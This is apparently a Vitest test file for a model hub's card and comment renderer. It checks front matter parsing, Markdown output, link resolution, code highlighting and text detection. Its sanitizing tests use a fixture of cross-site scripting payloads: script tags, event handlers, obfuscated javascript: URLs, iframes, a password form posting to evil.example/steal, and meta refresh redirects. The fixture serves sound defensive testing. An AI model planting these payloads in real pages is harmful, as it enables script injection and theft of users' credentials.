import { describe, expect, it } from "vitest";
import { highlightFile, isProbablyText, renderCard, renderMarkdown } from "./render.js";
import type { RepoLinks } from "./render.js";

const links: RepoLinks = { blobBase: "/alice/gpt/blob/main", rawBase: "/alice/gpt/resolve/main" };

/** Checks that every `<span …>` a line opens is closed on the same line, in order. */
function spansBalanced(line: string): boolean {
  let depth = 0;
  for (const tag of line.match(/<span[^>]*>|<\/span>/g) ?? []) {
    depth += tag === "</span>" ? -1 : 1;
    if (depth < 0) return false;
  }
  return depth === 0;
}

describe("renderCard front matter", () => {
  it("parses the YAML front matter into metadata and renders only the body", () => {
    const card = [
      "---",
      "license: apache-2.0",
      "tags:",
      "  - text-generation",
      "  - llama",
      "base_model: meta-llama/Llama-3.1-8B",
      "---",
      "# GPT",
      "",
      "A small model.",
    ].join("\r\n");
    const rendered = renderCard(card, links);
    expect(rendered.metadata).toEqual({
      license: "apache-2.0",
      tags: ["text-generation", "llama"],
      base_model: "meta-llama/Llama-3.1-8B",
    });
    expect(rendered.metadataError).toBeNull();
    expect(rendered.html).toContain('<h1 id="gpt">GPT</h1>');
    expect(rendered.html).toContain("<p>A small model.</p>");
    expect(rendered.html).not.toContain("license");
  });

  it("reports invalid YAML with its line in the file and still renders the body", () => {
    const rendered = renderCard("---\nlicense: mit\ntags: [a, b\n---\nThe body.\n", links);
    expect(rendered.metadata).toBeNull();
    expect(rendered.metadataError).toMatch(
      /^The front matter is not valid YAML \(line \d+, column \d+\): \S/,
    );
    expect(rendered.html).toBe("<p>The body.</p>\n");
  });

  it("refuses front matter that is not a mapping", () => {
    const rendered = renderCard("---\n- a\n- b\n---\nBody\n", links);
    expect(rendered.metadata).toBeNull();
    expect(rendered.metadataError).toBe(
      "The front matter must be a YAML mapping (key: value lines), not a list.",
    );
    expect(rendered.html).toBe("<p>Body</p>\n");
  });

  it("gives no metadata and no error when there is no front matter, and {} when it is empty", () => {
    expect(renderCard("# Title\n", links)).toMatchObject({ metadata: null, metadataError: null });
    expect(renderCard("---\n---\nText\n", links)).toEqual({
      html: "<p>Text</p>\n",
      metadata: {},
      metadataError: null,
    });
  });
});

describe("renderCard markdown", () => {
  it("renders a table with its alignment", () => {
    const { html } = renderCard("| Metric | Score |\n|:--|--:|\n| MMLU | 61.2 |\n", links);
    expect(html).toContain('<th align="left">Metric</th>');
    expect(html).toContain('<td align="right">61.2</td>');
    expect(html).toMatch(/<table>[\s\S]*<\/table>/);
  });

  it("renders a task list as disabled checkboxes, named for assistive technology", () => {
    const { html } = renderCard(
      '- [x] trained\n- [ ] evaluated\n\n<input type="checkbox" aria-label="Click me" checked>\n',
      links,
    );
    expect(html).toContain('<li><input type="checkbox" disabled aria-label="Done" checked /> trained</li>');
    expect(html).toContain('<li><input type="checkbox" disabled aria-label="Done" /> evaluated</li>');
    expect(html).not.toContain("Click me");
  });

  it("renders strikethrough and autolinks", () => {
    const { html } = renderCard("~~old~~ see www.example.com or write to team@example.com\n", links);
    expect(html).toContain("<del>old</del>");
    expect(html).toContain(
      '<a href="http://www.example.com" rel="nofollow noopener noreferrer">www.example.com</a>',
    );
    expect(html).toContain('<a href="mailto:team@example.com">team@example.com</a>');
  });

  it("highlights a fenced block in a registered language and escapes one in an unknown language", () => {
    const { html } = renderCard(
      '```python\nfrom hub import load\nmodel = load("gpt")  # <fast>\n```\n\n```brainfudge\n<b>&\n```\n',
      links,
    );
    // A block that scrolls sideways takes focus, so a keyboard can scroll it.
    expect(html).toContain('<pre tabindex="0"><code class="hljs"><span class="hljs-keyword">from</span> hub');
    expect(html).toContain('<span class="hljs-string">"gpt"</span>');
    expect(html).toContain('<span class="hljs-comment"># &lt;fast&gt;</span>');
    expect(html).toContain('<pre tabindex="0"><code>&lt;b&gt;&amp;\n</code></pre>');
  });

  it("gives headings GitHub slugs, numbering repeats", () => {
    const { html } = renderCard(
      "# Model card\n\n## Usage: `pip install` & go!\n\n## Usage\n\n## Usage\n\n### Überblick 2.0\n",
      links,
    );
    expect(html).toContain('<h1 id="model-card">Model card</h1>');
    expect(html).toContain('<h2 id="usage-pip-install--go">Usage: <code>pip install</code> &amp; go!</h2>');
    expect(html).toContain('<h2 id="usage">Usage</h2>');
    expect(html).toContain('<h2 id="usage-1">Usage</h2>');
    expect(html).toContain('<h3 id="überblick-20">Überblick 2.0</h3>');
  });

  it("resolves relative links to file pages and relative images to raw files, inside the repository", () => {
    const { html } = renderCard(
      [
        "[config](config.json) [docs](./docs/usage.md#install) [up](../../x) [deep](a/../../../b/c.md?plain=1#L3)",
        "[abs](/bob/other) [anchor](#usage) [site](https://example.com/page)",
        "![chart](./assets/chart.png) ![up](../../../logo.png) ![remote](https://example.com/a.png)",
        '<a href="LICENSE">raw license</a> <img src="img/raw.png" alt="raw">',
        "[empty]() [space](%20)",
      ].join("\n\n"),
      links,
    );
    expect(html).toContain('<a href="/alice/gpt/blob/main/config.json">config</a>');
    expect(html).toContain('<a href="/alice/gpt/blob/main/docs/usage.md#install">docs</a>');
    expect(html).toContain('<a href="/alice/gpt/blob/main/x">up</a>');
    expect(html).toContain('<a href="/alice/gpt/blob/main/b/c.md?plain=1#L3">deep</a>');
    expect(html).toContain('<a href="/bob/other">abs</a>');
    expect(html).toContain('<a href="#usage">anchor</a>');
    expect(html).toContain('<a href="https://example.com/page" rel="nofollow noopener noreferrer">site</a>');
    expect(html).toContain('<img src="/alice/gpt/resolve/main/assets/chart.png" alt="chart" />');
    expect(html).toContain('<img src="/alice/gpt/resolve/main/logo.png" alt="up" />');
    // An image on another host becomes a link to it: the page's policy loads images from the hub only.
    expect(html).toContain(
      '<a href="https://example.com/a.png" rel="nofollow noopener noreferrer">remote</a>',
    );
    expect(html).not.toContain('<img src="https://');
    expect(html).toContain('<a href="/alice/gpt/blob/main/LICENSE">raw license</a>');
    expect(html).toContain('<img src="/alice/gpt/resolve/main/img/raw.png" alt="raw" />');
    expect(html).toContain("<a>empty</a>");
    expect(html).toContain('<a href="/alice/gpt/blob/main/%20">space</a>');
  });

  it("keeps raster data: images and drops SVG ones", () => {
    const { html } = renderCard(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="png"> <img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">',
      links,
    );
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="png" />');
    expect(html).toContain('<img alt="svg" />');
    expect(html).not.toContain("svg+xml");
  });

  it("keeps a javascript: autolink as text without a link", () => {
    expect(renderCard("<javascript:alert(1)>", links).html).toBe("<p><a>javascript:alert(1)</a></p>\n");
  });

  it("keeps only highlight.js classes", () => {
    const { html } = renderCard('<span class="hljs-keyword evil-overlay">kw</span>', links);
    expect(html).toContain('<span class="hljs-keyword">kw</span>');
  });
});

describe("renderCard sanitizing", () => {
  const attack = [
    "---",
    "license: mit",
    "---",
    "# Safe title",
    "",
    "before-script <script>alert(1)</script> after-script",
    "",
    '<img src="x.png" onerror="alert(1)" alt="img-alt"> text-after-img',
    "",
    "[md-js](javascript:alert(1)) [md-js-case](JaVaScRiPt:alert(1)) [md-vb](vbscript:msgbox(1))",
    "",
    '<a href="javascript:alert(1)">raw-js</a> <a href="JAVASCRIPT:alert(1)">raw-js-upper</a>',
    "",
    '<a href="java&#x09;script:alert(1)">tab-js</a> <a href="&#106;avascript:alert(1)">entity-js</a>',
    '<a href=" &#14; javascript:alert(1)">control-js</a> <a href="java\nscript:alert(1)">newline-js</a>',
    "",
    "![img-js](javascript:alert(1)) [proto-relative](//evil.example/x) ![proto-img](//evil.example/p.png)",
    '<a href="&#x2F;&#x5C;evil.example/">slash-backslash</a> <a href="\\\\evil.example">backslashes</a>',
    "",
    '<svg onload="alert(1)"><script>alert(1)</script><text>svg-text</text></svg> after-svg',
    "",
    '<math><mi xlink:href="javascript:alert(1)">math-text</mi></math> after-math',
    "",
    '<iframe src="https://evil.example/"></iframe> after-iframe',
    "",
    '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Log in</button></form>',
    "",
    "<style>body { display: none }</style> after-style",
    "",
    '<p style="position:fixed;top:0">styled-text</p>',
    "",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"> after-meta',
    "",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data-link</a>',
    "",
    '<img src="ok.png" srcset="https://evil.example/big.png 2x" alt="set-img">',
    "",
    '<div id="__proto__">clobber-id</div> <img name="getElementById" src="n.png" alt="clobber-name">',
    '<h2 id="__proto__" name="x">raw-heading</h2>',
    "",
    '<object data="https://evil.example/x.swf">object-text</object> <embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/"> <link rel="stylesheet" href="https://evil.example/x.css"> after-link',
    "",
    "closing-words",
  ].join("\n");

  const rendered = renderCard(attack, links);
  const html = rendered.html;

  it("strips every dangerous construct", () => {
    for (const forbidden of [
      "<script",
      "onerror",
      "onload",
      "javascript:",
      "vbscript:",
      "<iframe",
      "<form",
      "<style",
      "style=",
      "<meta",
      "<svg",
      "<math",
      "<object",
      "<embed",
      "<base",
      "<link",
      "srcset",
      "data:text",
      'id="__proto__"',
      "name=",
      "<button",
      'type="password"',
      "<input",
      "evil.example",
    ]) {
      expect(html.toLowerCase(), forbidden).not.toContain(forbidden.toLowerCase());
    }
  });

  it("keeps the benign text around the attacks", () => {
    expect(rendered.metadata).toEqual({ license: "mit" });
    expect(html).toContain('<h1 id="safe-title">Safe title</h1>');
    for (const text of [
      "before-script",
      "after-script",
      "text-after-img",
      "<a>md-js</a>",
      "<a>md-js-case</a>",
      "<a>md-vb</a>",
      "<a>raw-js</a>",
      "<a>tab-js</a>",
      "<a>entity-js</a>",
      "<a>control-js</a>",
      "<a>newline-js</a>",
      '<img alt="img-js" />',
      "<a>proto-relative</a>",
      '<img alt="proto-img" />',
      "<a>slash-backslash</a>",
      "<a>backslashes</a>",
      "after-svg",
      "after-math",
      "after-iframe",
      "Log in",
      "after-style",
      "<p>styled-text</p>",
      "after-meta",
      "<a>data-link</a>",
      '<img src="/alice/gpt/resolve/main/ok.png" alt="set-img" />',
      "<div>clobber-id</div>",
      '<img src="/alice/gpt/resolve/main/n.png" alt="clobber-name" />',
      "<h2>raw-heading</h2>",
      "after-link",
      "closing-words",
    ]) {
      expect(html).toContain(text);
    }
    expect(html).not.toContain("svg-text");
    expect(html).not.toContain("object-text");
    expect(html).not.toContain("alert(1)");
  });
});

describe("highlightFile", () => {
  it("keeps spans balanced on every line of a multi-line docstring", () => {
    const source = 'def f():\n    """Say hello.\n\n    Returns <nothing>.\n    """\n    return None\n';
    const lines = highlightFile(source, "models/f.py");
    expect(lines).toHaveLength(6);
    for (const line of lines) expect(spansBalanced(line), line).toBe(true);
    expect(lines[1]).toBe('    <span class="hljs-string">&quot;&quot;&quot;Say hello.</span>');
    expect(lines[2]).toBe('<span class="hljs-string"></span>');
    expect(lines[3]).toBe('<span class="hljs-string">    Returns &lt;nothing&gt;.</span>');
    expect(lines[4]).toBe('<span class="hljs-string">    &quot;&quot;&quot;</span>');
    expect(lines[5]).toBe(
      '    <span class="hljs-keyword">return</span> <span class="hljs-literal">None</span>',
    );
  });

  it("outputs only hljs spans and escaped text, even for HTML with embedded script", () => {
    const source = '<div class="x">\n<!-- a\ncomment -->\n<script>\nconst s = "</div>";\n</script>\n';
    const lines = highlightFile(source, "index.html");
    expect(lines).toHaveLength(6);
    for (const line of lines) {
      expect(spansBalanced(line), line).toBe(true);
      expect(line.replace(/<span class="hljs-[^"]*">|<\/span>/g, ""), line).not.toMatch(/[<>]/);
    }
    expect(lines[1]).toBe('<span class="hljs-comment">&lt;!-- a</span>');
    expect(lines[2]).toBe('<span class="hljs-comment">comment --&gt;</span>');
  });

  it("escapes plain text files", () => {
    expect(highlightFile("a <b> & 'c'\n", "notes.txt")).toEqual(["a &lt;b&gt; &amp; &#39;c&#39;"]);
    expect(highlightFile("<script>x</script>", "NOTICE")).toEqual(["&lt;script&gt;x&lt;/script&gt;"]);
  });

  it("gives one entry per line, a final newline adding none", () => {
    expect(highlightFile("a\nb\n", "x.txt")).toEqual(["a", "b"]);
    expect(highlightFile("a\nb", "x.txt")).toEqual(["a", "b"]);
    expect(highlightFile("a\r\nb\r\n\r\n", "x.txt")).toEqual(["a", "b", ""]);
    expect(highlightFile("", "x.txt")).toEqual([]);
    expect(highlightFile("x = 1\ny = 2\n", "a.py")).toHaveLength(2);
  });

  it("picks the language from the extension or the file name", () => {
    expect(highlightFile('{"a": 1}', "config.json")[0]).toContain('<span class="hljs-attr">');
    expect(highlightFile("name: x", "card.YML")[0]).toContain('<span class="hljs-attr">');
    expect(highlightFile("FROM node:20", "docker/Dockerfile")[0]).toContain('<span class="hljs-keyword">');
    expect(highlightFile("fn main() {}", "src/main.rs")[0]).toContain('<span class="hljs-keyword">fn</span>');
  });
});

describe("isProbablyText", () => {
  const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

  it("accepts UTF-8 text and rejects NUL bytes and invalid UTF-8", () => {
    expect(isProbablyText(encode("héllo wörld ✓\n"))).toBe(true);
    expect(isProbablyText(new Uint8Array())).toBe(true);
    expect(isProbablyText(new Uint8Array([0x68, 0x00, 0x69]))).toBe(false);
    expect(isProbablyText(new Uint8Array([0x68, 0xff, 0x69]))).toBe(false);
    expect(isProbablyText(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(false);
  });

  it("looks only at the first 8000 bytes, tolerating a character cut there", () => {
    const cut = encode(`${"a".repeat(7999)}é and more`);
    expect(cut[7999]).toBe(0xc3);
    expect(isProbablyText(cut)).toBe(true);
    const lateNul = new Uint8Array(9000).fill(0x61);
    lateNul[8500] = 0;
    expect(isProbablyText(lateNul)).toBe(true);
    const earlyNul = new Uint8Array(9000).fill(0x61);
    earlyNul[7999] = 0;
    expect(isProbablyText(earlyNul)).toBe(false);
  });

  it("rejects a file that itself ends inside a character", () => {
    expect(isProbablyText(encode("abé").subarray(0, 3))).toBe(false);
  });
});

describe("renderMarkdown (comments)", () => {
  it("sanitizes as a card does and resolves relative links in the repository", () => {
    const html = renderMarkdown(
      [
        "See [the notes](docs/notes.md) and ![chart](chart.png).",
        "",
        '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">go</a>',
        "",
        "```python",
        "print('hi')",
        "```",
      ].join("\n"),
      links,
    );
    expect(html).toContain('href="/alice/gpt/blob/main/docs/notes.md"');
    expect(html).toContain('src="/alice/gpt/resolve/main/chart.png"');
    expect(html).not.toMatch(/<script|onerror|javascript:/i);
    expect(html).toContain('<code class="hljs">');
  });

  it("keeps a leading --- as Markdown and gives headings no id", () => {
    const html = renderMarkdown('---\n\n## main\n\n<h2 id="content">x</h2>', links);
    expect(html).toContain("<hr />");
    expect(html).toContain("<h2>main</h2>");
    expect(html).not.toContain("id=");
  });
});
